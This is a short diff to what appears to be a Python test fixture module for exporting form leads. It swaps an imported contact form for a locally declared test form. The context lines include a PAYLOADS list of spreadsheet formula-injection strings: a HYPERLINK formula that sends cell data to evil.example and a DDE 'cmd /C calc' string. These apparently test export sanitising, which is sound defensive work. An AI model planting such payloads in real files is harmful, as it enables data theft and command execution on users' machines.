@@ -2,9 +2,20 @@
 
 from datetime import UTC, datetime
 
-from app.forms.declared import CONTACT
+from app.forms.declaration import EMAIL, MESSAGE, NAME, PHONE, Form
 from app.queries.records import LeadRecord
 
+FORM = Form(
+    kind="own",
+    page="/own",
+    list_name="own",
+    title="Own Query",
+    heading="Own Query Data",
+    icon="mail",
+    purpose="Send a query of the tests",
+    fields=(NAME, EMAIL, PHONE, MESSAGE),
+)
+"""A form of the tests' own: what is declared for visitors may change."""
 PAYLOADS = [
     '=HYPERLINK("https://evil.example?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -25,7 +36,7 @@ def lead(number: int = 0, /, **changes: object) -> LeadRecord:
     """One as the store yields it for a file."""
     values: dict[str, object] = {
         "id": f"{number:024x}",
-        "form": CONTACT,
+        "form": FORM,
         "name": f"Visitor {number}",
         "email": "asha@example.in",
         "phone": "+919876543210",
